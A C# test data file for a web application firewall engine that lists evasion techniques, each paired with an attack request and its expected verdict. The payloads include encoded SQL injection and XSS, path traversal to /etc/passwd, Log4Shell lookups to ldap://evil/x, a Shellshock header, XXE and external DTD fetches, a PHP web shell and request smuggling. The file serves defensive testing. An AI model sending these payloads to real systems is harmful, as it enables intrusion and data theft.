using System.Text;

namespace WafOperator.Engine.Tests.Evasion;

using static WafOperator.Engine.Tests.Evasion.EvasionRequest;

/// <summary>One technique: its group, what it does, an attack that uses it, and the verdict that is expected.</summary>
internal sealed record EvasionCase(string Group, string Technique, EvasionRequest Request, string Verdict);

/// <summary>Techniques to get an attack past a firewall, each with the verdict it gets.</summary>
internal static class EvasionTable
{
    private const string Field = "--b|Content-Disposition: form-data; name=\"q\"||";
    private const string Sql = "1' union select password from users-- ";
    private const string Script = "<script>alert(1)</script>";
    private const string Utf16 = "application/json; charset=utf-16le";

    public static IReadOnlyList<EvasionCase> All { get; } =
    [
        .. Encodings(), .. SqlForms(), .. Scripts(), .. Paths(), .. Parameters(), .. Multiparts(), .. Structured(),
        .. Wrappings(),
        .. Framing(),
    ];

    private static IEnumerable<EvasionCase> Encodings()
    {
        const string Group = "Encodings";
        yield return new(Group, "percent encoding of everything",
            Get("/s?q=%31%27%20%75%6e%69%6f%6e%20%73%65%6c%65%63%74%20%31%2c%32%2d%2d%20"), "blocked");
        yield return new(Group, "double percent encoding",
            Get("/s?q=1%2527%2520union%2520select%25201%252c2--%2520"), "blocked");
        yield return new(Group, "mixed plain, single and double encoding",
            Get("/s?q=%3Cscr%69pt%253Ealert(1)%3C/script%3E"), "blocked");
        yield return new(Group, "%uXXXX escapes", Get("/s?q=%u003cscript%u003ealert(1)%u003c/script%u003e"), "blocked");
        yield return new(Group, "full width forms as %uFFXX",
            Get("/s?q=%uff1cscript%uff1ealert(1)%uff1c/script%uff1e"), "blocked");
        yield return new(Group, "overlong UTF-8 in an argument",
            Get("/s?q=%c0%bcscript%c0%bealert(1)%c0%bc/script%c0%be"), "blocked");
        yield return new(Group, "overlong UTF-8 dots in the path",
            Get("/%c0%ae%c0%ae/%c0%ae%c0%ae/etc/passwd"), "blocked");
        yield return new(Group, "zero byte inside a keyword",
            Get("/s?q=%3Cscr%00ipt%3Ealert(1)%3C/scr%00ipt%3E"), "blocked");
        yield return new(Group, "zero byte behind a file name", Get("/get?file=../../etc/passwd%00.jpg"), "blocked");
        yield return new(Group, "HTML entities inside an address",
            Get("/s?q=%3Ca%20href=%26%23106;avascript%26colon;alert(1)%3Ex"), "blocked");
        yield return new(Group, "entities without semicolons",
            Get("/s?q=%3Ca%20href=%26%23106avascript%26%2358alert(1)%3Ex"), "blocked");
        yield return new(Group, "JavaScript escapes",
            Get("/s?q=%5cu003cscript%5cu003ealert(1)%5cu003c/script%5cu003e"), "blocked");
        yield return new(Group, "CSS escapes",
            Get("/s?q=%3Cdiv%20style=width:ex%5c70 ression(alert(1))%3E"), "blocked");
        yield return new(Group, "malformed escapes around an attack",
            Get("/s?q=%zz%3Cscript%3Ealert(1)%3C/script%3E%4"), "blocked");
        yield return new(Group, "form in EBCDIC (charset=IBM037)",
            Post("application/x-www-form-urlencoded; charset=IBM037", "q=" + Ebcdic(Script)), "blocked");
        yield return new(Group, "form in UTF-7",
            Post("application/x-www-form-urlencoded; "
                + "charset=utf-7", "q=%2BADw-script%2BAD4-alert(1)%2BADw-/script%2BAD4-"), "blocked");
        yield return new(Group, "JSON in UTF-16",
            Post(Utf16, Encoding.Unicode.GetBytes($$"""{"q":"{{Script}}"}""")), "blocked");
        yield return new(Group, "ASCII declared as UTF-16", Post(Utf16, $$"""{"q":"{{Script}}"}"""), "blocked");
    }

    private static IEnumerable<EvasionCase> SqlForms()
    {
        const string Group = "SQL";
        yield return new(Group, "mixed case", Get("/s?q=1'+UnIoN+SeLeCt+1,2--+"), "blocked");
        yield return new(Group, "comments instead of spaces", Get("/s?q=1'/**/union/**/select/**/1,2--+"), "blocked");
        yield return new(Group, "comments that MySQL executes",
            Get("/s?q=1'/*!50000union*//*!50000select*/1,2%23"), "blocked");
        yield return new(Group, "vertical tab and form feed as spaces",
            Get("/s?q=1'%0bunion%0cselect%0b1,2--%0b"), "blocked");
        yield return new(Group, "no-break spaces", Get("/s?q=1'%a0union%a0select%a01,2--%a0"), "blocked");
        yield return new(Group, "no spaces at all", Get("/s?q=1'union(select(1),2)--+"), "blocked");
        yield return new(Group, "keyword glued to a number", Get("/s?q=1e0union+select+1,2--+"), "blocked");
        yield return new(Group, "symbols for words", Get("/s?q=1'%26%261=1%23"), "blocked");
        yield return new(Group, "a tautology without equals", Get("/s?q=1'+or+'a'+like+'a"), "blocked");
        yield return new(Group, "hexadecimal literals", Get("/s?q=1+or+0x31=0x31"), "blocked");
        yield return new(Group, "time based, no quotes", Get("/s?q=1-sleep(5)"), "blocked");
        yield return new(Group, "new line behind a comment", Get("/s?q=1'+union--+x%0aselect+1,2--+"), "blocked");
        yield return new(Group, "arithmetic on the closing quote", Get("/login?user=admin'-'"), "blocked");
    }

    private static IEnumerable<EvasionCase> Scripts()
    {
        const string Group = "Scripts";
        yield return new(Group, "mixed case and slashes for spaces", Get("/s?q=%3CsVg/oNloAd=alert(1)%3E"), "blocked");
        yield return new(Group, "no closing bracket", Get("/s?q=%3Cimg%20src=x%20onerror=alert(1)//"), "blocked");
        yield return new(Group, "handler behind a closed attribute",
            Get("/s?q=%22%20autofocus%20onfocus=alert(1)%20x=%22"), "blocked");
        yield return new(Group, "white space inside the scheme",
            Get("/s?q=%3Ca%20href=%22java%09scr%0aipt:alert(1)%22%3E"), "blocked");
        yield return new(Group, "backticks for parentheses", Get("/s?q=%3Csvg/onload=alert`1`%3E"), "blocked");
        yield return new(Group, "nested tags", Get("/s?q=%3Cscr%3Cscript%3Eipt%3Ealert(1)%3C/script%3E"), "blocked");
        yield return new(Group, "leaving a script's string", Get("/s?q=%27-alert(1)-%27"), "blocked");
        yield return new(Group, "markdown link", Get("/s?q=[x](javascript:alert(1))"), "blocked");
        yield return new(Group, "data: address with markup",
            Get("/s?q=%3Ca%20href=data:text/html;base64,PHNjcmlwdD4=%3E"), "blocked");
    }

    private static IEnumerable<EvasionCase> Paths()
    {
        const string Group = "Paths";
        yield return new(Group, "dot segments", Get("/../../../../etc/passwd"), "blocked");
        yield return new(Group, "encoded slashes", Get("/a/..%2f..%2f..%2fetc%2fpasswd"), "blocked");
        yield return new(Group, "encoded backslashes", Get("/a/..%5c..%5c..%5cwindows%5cwin.ini"), "blocked");
        yield return new(Group, "double encoded dots", Get("/a/%252e%252e/%252e%252e/etc/passwd"), "blocked");
        yield return new(Group, "dots that survive a naive filter", Get("/get?file=....//....//etc/passwd"), "blocked");
        yield return new(Group, "self references between", Get("/get?file=.././.././etc/passwd"), "blocked");
        yield return new(Group, "path parameters (..;/)", Get("/app/..;/manager/html"), "blocked");
        yield return new(Group, "absolute target",
            Get("http://shop.example/s?q=%3Cscript%3Ealert(1)%3C/script%3E"), "blocked");
        yield return new(Group, "upper case", Get("/get?file=../../ETC/PASSWD"), "blocked");
        yield return new(Group, "wild cards for letters", Get("/run?cmd=/???/c?t+/etc/passwd"), "blocked");
    }

    private static IEnumerable<EvasionCase> Parameters()
    {
        const string Group = "Parameters";
        yield return new(Group, "same name twice, attack in the second",
            Get("/s?q=1&q=1'+union+select+1,2--+"), "blocked");
        yield return new(Group, "attack split over two of the same name",
            Get("/s?q=1'+union/*&q=*/select+password+from+users--+"), "blocked");
        yield return new(Group, "attack as the name", Get("/s?%3Cscript%3Ealert(1)%3C/script%3E=1"), "blocked");
        yield return new(Group, "attack in a name without value", Get("/s?1'+union+select+1,2--+"), "blocked");
        yield return new(Group, "semicolon as separator", Get("/s?a=1;q=1'+union+select+1,2--+"), "blocked");
        yield return new(Group, "array names", Get("/s?q[]=1'+union+select+1,2--+"), "blocked");
        yield return new(Group, "cookie", Get("/", ("Cookie", "a=b; id=1' union select 1,2-- ")), "blocked");
        yield return new(Group, "cookie with percent encoding",
            Get("/", ("Cookie", "id=%3Cscript%3Ealert(1)%3C/script%3E")), "blocked");
        yield return new(Group, "look-up in a header of its own",
            Get("/", ("X-Api-Version", "${jndi:ldap://evil/x}")), "passed");
        yield return new(Group, "nested look-ups", Get("/s?q=${${lower:j}ndi:ldap://evil/x}"), "blocked");
        yield return new(Group, "referer", Get("/", ("Referer", "http://x/?q=<script>alert(1)</script>")), "blocked");
        yield return new(Group, "function definition in a header",
            Get("/", ("X-Forwarded-For", "() { :; }; /bin/cat /etc/passwd")), "blocked");
    }

    private static IEnumerable<EvasionCase> Multiparts()
    {
        const string Group = "Multipart";
        yield return new(Group, "attack in a field", Multipart(Field + Sql + "|--b--|"), "blocked");
        yield return new(Group, "no final boundary", Multipart(Field + Sql + "|"), "blocked");
        yield return new(Group, "boundary that does not appear",
            Multipart(Field + Sql + "|--b--|", "; boundary=x"), "blocked");
        yield return new(Group, "no boundary at all", Multipart(Field + Sql + "|--b--|", ""), "blocked");
        yield return new(Group, "two boundaries in the content type",
            Multipart(Field + Sql + "|--b--|", "; boundary=x; boundary=b"), "blocked");
        yield return new(Group, "quoted boundary", Multipart(Field + Sql + "|--b--|", "; boundary=\"b\""), "blocked");
        yield return new(Group, "file name twice",
            Multipart("--b|Content-Disposition: form-data; name=\"f\""
            + "; filename=\"a.png\"; filename=\"a.php\"||x|--b--|"), "blocked");
        yield return new(Group, "name twice",
            Multipart("--b|Content-Disposition: form-data; name=\"a\"; name=\"q\"||" + Sql + "|--b--|"), "blocked");
        yield return new(Group, "disposition twice",
            Multipart("--b|Content-Disposition: form-data; name=\"a\""
            + "|Content-Disposition: form-data; name=\"q\"||" + Sql + "|--b--|"), "blocked");
        yield return new(Group, "folded header",
            Multipart("--b|Content-Disposition: form-data;| name=\"q\"||" + Sql + "|--b--|"), "blocked");
        yield return new(Group, "LF line ends",
            Multipart("--b\nContent-Disposition: form-data; name=\"q\"\n\n" + Sql + "\n--b--\n"), "blocked");
        yield return new(Group, "single quotes",
            Multipart("--b|Content-Disposition: form-data; name='q'||" + Sql + "|--b--|"), "blocked");
        yield return new(Group, "data behind the last boundary",
            Multipart(Field + "1|--b--|" + Field + Sql + "|--b--|"), "blocked");
        yield return new(Group, "data before the first boundary", Multipart("x|" + Field + Sql + "|--b--|"), "blocked");
        yield return new(Group, "white space before the boundary",
            Multipart(Field + "1|-- b|Content-Disposition: form-data; name=\"q\"||" + Sql + "|--b--|"), "blocked");
        yield return new(Group, "part in UTF-16", Post("multipart/form-data; boundary=b", Utf16Part()), "blocked");
        yield return new(Group, "attack in the file name",
            Multipart("--b|Content-Disposition: form-data; name=\"f\"; filename=\"a.php\"||<?php system($_GET[0]);|"
                + "--b--|"), "blocked");
        yield return new(Group, "zero byte in a part's headers",
            Multipart("--b|Content-Disposition: form-data; name=\"q\0\"||" + Sql + "|--b--|"), "blocked");
        yield return new(Group, "attack in the field's name",
            Multipart("--b|Content-Disposition: form-data; name=\"" + Script + "\"||1|--b--|"), "blocked");
    }

    private static IEnumerable<EvasionCase> Structured()
    {
        const string Group = "JSON, XML, GraphQL";
        yield return new(Group, "JSON escapes",
            Json("""{"q":"\u003cscript\u003ealert(1)\u003c/script\u003e"}"""), "blocked");
        yield return new(Group, "duplicate key, attack in the first",
            Json($$"""{"q":"{{Script}}","q":"1"}"""), "blocked");
        yield return new(Group, "duplicate key, attack in the second",
            Json($$"""{"q":"1","q":"{{Script}}"}"""), "blocked");
        yield return new(Group, "attack as a key", Json($$"""{"{{Script}}":1}"""), "blocked");
        yield return new(Group, "attack deep inside",
            Json("{\"a\":" + new string('[', 40) + "\"" + Script + "\"" + new string(']', 40) + "}"), "blocked");
        yield return new(Group, "nested beyond the limit",
            Json(new string('[', 300) + "1" + new string(']', 300)), "refused");
        yield return new(Group, "text behind the document", Json($$"""{"q":1} {"q":"{{Script}}"}"""), "blocked");
        yield return new(Group, "single quotes", Json("{'q':'" + Sql + "'}"), "blocked");
        yield return new(Group, "comments in JSON", Json($$"""{/**/"q":"{{Script}}"}"""), "blocked");
        yield return new(Group, "trailing comma", Json($$"""{"q":"{{Script}}",}"""), "blocked");
        yield return new(Group, "JSON under a vendor's type",
            Post("application/vnd.shop+json", $$"""{"q":"{{Script}}"}"""), "blocked");
        yield return new(Group, "XML text in CDATA", Xml($"<a><![CDATA[{Script}]]></a>"), "blocked");
        yield return new(Group, "XML character references",
            Xml("<a>&#60;script&#62;alert(1)&#60;/script&#62;</a>"), "blocked");
        yield return new(Group, "text split by elements", Xml("<a>1' union <b/>select 1,2-- </a>"), "blocked");
        yield return new(Group, "attack in an attribute", Xml("<a b=\"1' union select 1,2-- \"/>"), "blocked");
        yield return new(Group, "attack in an entity of the document",
            Xml("<!DOCTYPE a [<!ENTITY x \"1' union select 1,2-- \">]><a>&x;</a>"), "blocked");
        yield return new(Group, "external entity behind a quote in an instruction",
            Xml("<!DOCTYPE a [<?p ' ?><!ENTITY x SYSTEM \"file:///etc/passwd\"><?p ' ?>]><a>&x;</a>"), "blocked");
        yield return new(Group, "document type from elsewhere",
            Xml("<!DOCTYPE a SYSTEM \"http://evil.example/x.dtd\"><a/>"), "blocked");
        yield return new(Group, "external entity",
            Xml("<!DOCTYPE a [<!ENTITY x SYSTEM \"file:///etc/passwd\">]><a>&x;</a>"), "blocked");
        yield return new(Group, "entity bomb",
            Xml("<!DOCTYPE a [<!ENTITY x \"xxxxxxxxxx\"><!ENTITY y \"&x;&x;&x;&x;\">]><a>&y;&y;</a>"), "blocked");
        yield return new(Group, "XML that is not well formed", Xml("<a>" + Script.Replace("<", "&lt;")), "blocked");
        yield return new(Group, "GraphQL literal",
            Json("""{"query":"{ user(name: \"1' union select 1,2-- \") { id } }"}"""), "blocked");
        yield return new(Group, "GraphQL block string",
            Json("""{"query":"{ user(name: \"\"\"<script>alert(1)</script>\"\"\") { id } }"}"""), "blocked");
    }

    private static IEnumerable<EvasionCase> Wrappings()
    {
        const string Group = "Content coding and type";
        var form = Encoding.ASCII.GetBytes("q=" + Uri.EscapeDataString(Sql));
        const string Type = "application/x-www-form-urlencoded";
        yield return new(Group, "gzip", Post(Type, GZip(form), ("Content-Encoding", "gzip")), "blocked");
        yield return new(Group, "gzip twice",
            Post(Type, GZip(GZip(form)), ("Content-Encoding", "gzip, gzip")), "blocked");
        yield return new(Group, "gzip three times",
            Post(Type, GZip(GZip(GZip(form))), ("Content-Encoding", "gzip, gzip, gzip")), "blocked");
        yield return new(Group, "decompression bomb",
            Post(Type, GZip(new byte[20_000_000]), ("Content-Encoding", "gzip")), "blocked");
        yield return new(Group, "coding nobody knows", Post(Type, form, ("Content-Encoding", "x-odd")), "blocked");
        yield return new(Group, "gzip that is none", Post(Type, form, ("Content-Encoding", "gzip")), "blocked");
        yield return new(Group, "type in upper case with odd spacing",
            Post("APPLICATION/X-WWW-FORM-URLENCODED ; charset=utf-8", form), "blocked");
        yield return new(Group, "type that is not allowed", Post("text/evil", form), "blocked");
        yield return new(Group, "charset twice", Post(Type + "; charset=utf-8; charset=utf-7", form), "blocked");
    }

    private static IEnumerable<EvasionCase> Framing()
    {
        const string Group = "Protocol";
        var body = ("Content-Type", "application/x-www-form-urlencoded");
        yield return new(Group, "length and transfer coding together",
            Bare("POST", "/", ("Host", "h"), body, ("Content-Length", "4"), ("Transfer-Encoding", "chunked")), "noted");
        yield return new(Group, "two lengths",
            Bare("POST", "/", ("Host", "h"), body, ("Content-Length", "4"), ("Content-Length", "5")), "noted");
        yield return new(Group, "length with a sign",
            Bare("POST", "/", ("Host", "h"), body, ("Content-Length", "+4")), "blocked");
        yield return new(Group, "transfer coding that is not quite chunked",
            Bare("POST", "/", ("Host", "h"), body, ("Transfer-Encoding", "xchunked")), "noted");
        yield return new(Group, "transfer coding twice",
            Bare("POST", "/", ("Host", "h"), body, ("Transfer-Encoding", "chunked"),
            ("Transfer-Encoding", "identity")), "noted");
        yield return new(Group, "folded header", Get("/", ("X-A", "b\r\n c: d")), "blocked");
        yield return new(Group, "line end smuggled into a value", Get("/s?q=a%0d%0aSet-Cookie:%20x=y"), "blocked");
        yield return new(Group, "request smuggled in a body",
            Form("q=1%0d%0aGET%20/admin%20HTTP/1.1%0d%0aHost:%20x"), "blocked");
        yield return new(Group, "white space in a header's name", Get("/", ("X A", "b")), "noted");
        yield return new(Group, "two hosts", Get("/", ("Host", "other")), "noted");
        yield return new(Group, "no host", Bare("GET", "/", ("User-Agent", "x"), ("Accept", "*/*")), "noted");
        yield return new(Group, "unknown method",
            Bare("PROPFOO", "/", ("Host", "h"), ("User-Agent", "x"), ("Accept", "*/*")), "blocked");
        yield return new(Group, "more header lines than allowed",
            Bare("GET", "/", [("Host", "h"), .. Enumerable.Range(0, 300).Select(i => ($"x-{i}", "1"))]), "refused");
    }

    private static string Ebcdic(string text) =>
        string.Concat(
            CodePagesEncodingProvider.Instance.GetEncoding("IBM037")!.GetBytes(text).Select(value => $"%{value:x2}"));

    private static byte[] Utf16Part() =>
    [
        .. Encoding.ASCII.GetBytes((Field[..^2] + "Content-Type: text/plain; charset=utf-16le||").Replace("|", "\r\n")),
        .. Encoding.Unicode.GetBytes(Script), .. "\r\n--b--\r\n"u8,
    ];
}
